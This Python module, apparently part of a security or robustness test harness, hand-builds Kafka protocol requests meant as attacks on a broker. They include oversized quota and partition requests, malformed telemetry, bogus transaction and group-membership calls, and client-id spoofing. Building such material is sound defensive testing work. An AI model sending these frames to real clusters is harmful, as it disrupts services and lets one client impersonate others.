"""The frames of the attacks, written byte by byte. An encoder would be slow for most, and reject others."""

import struct
from collections.abc import Iterable, Sequence
from typing import Final

CLIENT_ID: Final = "attacker"
_PRODUCE, _FETCH, _LIST_OFFSETS, _METADATA = 0, 1, 2, 3
_JOIN_GROUP, _HEARTBEAT, _CREATE_TOPICS, _INCREMENTAL_ALTER_CONFIGS = 11, 12, 19, 44
_CONSUMER_GROUP_HEARTBEAT, _PUSH_TELEMETRY = 68, 72
_API_VERSIONS, _DELETE_RECORDS, _INIT_PRODUCER_ID, _OFFSET_FOR_LEADER_EPOCH = 18, 21, 22, 23
_ADD_PARTITIONS_TO_TXN, _END_TXN = 24, 26
_DESCRIBE_CLIENT_QUOTAS, _ALTER_CLIENT_QUOTAS, _SHARE_FETCH, _SHARE_ACKNOWLEDGE = 48, 49, 78, 79


def frame(api_key: int, version: int, body: bytes, *, flexible: bool = False) -> bytes:
    """Return a request with its header and length."""
    head = struct.pack(">hhi", api_key, version, 1) + string(CLIENT_ID) + (b"\0" if flexible else b"")
    return struct.pack(">i", len(head) + len(body)) + head + body


def sent_by(request: bytes, client_id: str) -> bytes:
    """Return the request with another client id."""
    at = 12  # after the length, the api key, the version and the correlation id
    rest = request[at + 2 + int.from_bytes(request[at : at + 2], "big") :]
    payload = request[4:at] + string(client_id) + rest
    return struct.pack(">i", len(payload)) + payload


def string(text: str) -> bytes:
    """Encode a string with its length in two bytes."""
    return struct.pack(">h", len(text.encode())) + text.encode()


def compact(text: str) -> bytes:
    """Encode a string of a flexible version, of at most 126 bytes."""
    return bytes([len(text) + 1]) + text.encode()


def array(items: Iterable[bytes]) -> bytes:
    """Encode an array with its length in four bytes."""
    every = list(items)
    return struct.pack(">i", len(every)) + b"".join(every)


def topics(name: str, partitions: Iterable[bytes]) -> bytes:
    """Encode an array of one topic."""
    return array([string(name) + array(partitions)])


def describe_client_quotas(components: int) -> bytes:
    """A filter with many components."""
    return frame(
        _DESCRIBE_CLIENT_QUOTAS,
        0,
        struct.pack(">i", components) + struct.pack(">hbh", 0, 1, -1) * components + b"\0",
    )


def alter_client_quotas(ops: int) -> bytes:
    """Many changes of one entity."""
    entity = array([string("user") + string("nobody")])
    changes = struct.pack(">i", ops) + struct.pack(">hdb", 0, 1.0, 0) * ops
    return frame(_ALTER_CLIENT_QUOTAS, 0, array([entity + changes]) + b"\1")


def fetch(topic: str, partitions: int, max_wait_ms: int = 0, max_bytes: int = 1 << 20) -> bytes:
    """A fetch without a session, of the partitions from 0."""
    head = struct.pack(">iiiibii", -1, max_wait_ms, 1, max_bytes, 0, 0, -1)
    asked = [struct.pack(">iiqqi", index, -1, 0, -1, max_bytes) for index in range(partitions)]
    return frame(_FETCH, 11, head + topics(topic, asked) + array([]) + string(""))


def api_versions() -> bytes:
    """ApiVersions in a version that no broker knows."""
    return frame(_API_VERSIONS, 99, b"", flexible=True)


def list_offsets(topic: str, partitions: int) -> bytes:
    """The offsets of a timestamp in many partitions."""
    asked = [struct.pack(">iq", index, 1) for index in range(partitions)]
    return frame(_LIST_OFFSETS, 3, struct.pack(">ib", -1, 0) + topics(topic, asked))


def offset_for_leader_epoch(topic: str, partitions: int) -> bytes:
    """The ends of an epoch in many partitions."""
    asked = [struct.pack(">iii", index, -1, 0) for index in range(partitions)]
    return frame(_OFFSET_FOR_LEADER_EPOCH, 3, struct.pack(">i", -2) + topics(topic, asked))


def delete_records(topic: str, partitions: int) -> bytes:
    """Delete nothing, in many partitions."""
    asked = [struct.pack(">iq", index, 0) for index in range(partitions)]
    return frame(_DELETE_RECORDS, 1, topics(topic, asked) + struct.pack(">i", 1000))


def init_producer_id(transactional_id: str) -> bytes:
    """Begin to produce in transactions, which writes to the transaction log."""
    return frame(_INIT_PRODUCER_ID, 1, string(transactional_id) + struct.pack(">i", 60_000))


def add_partitions_to_txn(transactional_id: str, topic: str, partitions: int) -> bytes:
    """Add partitions to a transaction of a producer that does not exist."""
    asked = [struct.pack(">i", index) for index in range(partitions)]
    return frame(
        _ADD_PARTITIONS_TO_TXN, 2, string(transactional_id) + struct.pack(">qh", 1, 0) + topics(topic, asked)
    )


def end_txn(transactional_id: str) -> bytes:
    """End a transaction of a producer that does not exist."""
    return frame(_END_TXN, 2, string(transactional_id) + struct.pack(">qhb", 1, 0, 1))


def share_fetch(group: str, member: str, epoch: int) -> bytes:
    """A fetch of a share group, without topics."""
    body = compact(group) + compact(member) + struct.pack(">iiiiii", epoch, 0, 1, 1 << 20, 500, 500)
    return frame(_SHARE_FETCH, 1, body + b"\1\1\0", flexible=True)


def share_acknowledge(group: str, member: str, topic_id: bytes, batches: int) -> bytes:
    """Acknowledge batches that were never delivered."""
    one = struct.pack(">qq", 0, 0) + b"\2\1\0"
    partition = struct.pack(">i", 0) + _uvarint(batches + 1) + one * batches + b"\0"
    body = compact(group) + compact(member) + struct.pack(">i", 1)
    return frame(_SHARE_ACKNOWLEDGE, 1, body + b"\2" + topic_id + b"\2" + partition + b"\0\0", flexible=True)


def create_topics(names: Iterable[str]) -> bytes:
    """Topics that are only validated."""
    one = struct.pack(">ih", 1, 1) + b"\1\1\0"
    made = [compact(name) + one for name in names]
    return frame(_CREATE_TOPICS, 5, _compact_array(made) + struct.pack(">i", 30_000) + b"\1\0", flexible=True)


def incremental_alter_configs(names: Iterable[str]) -> bytes:
    """Topics of which no config changes; only validated."""
    resources = [b"\2" + compact(name) + b"\1\0" for name in names]
    return frame(_INCREMENTAL_ALTER_CONFIGS, 1, _compact_array(resources) + b"\1\0", flexible=True)


def heartbeat(group: str) -> bytes:
    """A heartbeat of a member that does not exist."""
    return frame(_HEARTBEAT, 1, string(group) + struct.pack(">i", 1) + string("member"))


def join_group(group: str) -> bytes:
    """A new member. The others of its group have a millisecond to join again."""
    head = string(group) + struct.pack(">ii", 6000, 1) + string("") + string("consumer")
    return frame(_JOIN_GROUP, 2, head + array([string("range") + struct.pack(">i", 0)]))


def consumer_group_heartbeat(group: str, names: Iterable[str]) -> bytes:
    """A member that joins, and subscribes to these topics."""
    head = compact(group) + compact("member") + struct.pack(">i", 0) + b"\0\0" + struct.pack(">i", 1000)
    body = head + _compact_array([compact(name) for name in names]) + b"\0\1\0"
    return frame(_CONSUMER_GROUP_HEARTBEAT, 0, body, flexible=True)


def push_telemetry(size: int) -> bytes:
    """Return metrics of this size, which do not parse."""
    body = bytes(range(16)) + struct.pack(">i", 1) + b"\0\1" + _uvarint(size + 1) + bytes(size) + b"\0"
    return frame(_PUSH_TELEMETRY, 0, body, flexible=True)


def metadata(names: Iterable[str]) -> bytes:
    """Request topics without creating them."""
    return frame(_METADATA, 4, array(string(name) for name in names) + b"\0")


def produce(topic: str, partition: int, records: bytes, client_id: str, acks: int = 1) -> bytes:
    """A Produce request with one batch of records, by any client."""
    body = struct.pack(">hhi", -1, acks, 30_000)
    body += topics(topic, [struct.pack(">ii", partition, len(records)) + records])
    head = struct.pack(">hhi", _PRODUCE, 7, 1) + string(client_id)
    return struct.pack(">i", len(head) + len(body)) + head + body


def _compact_array(items: Sequence[bytes]) -> bytes:
    return _uvarint(len(items) + 1) + b"".join(items)


def _uvarint(value: int) -> bytes:
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])
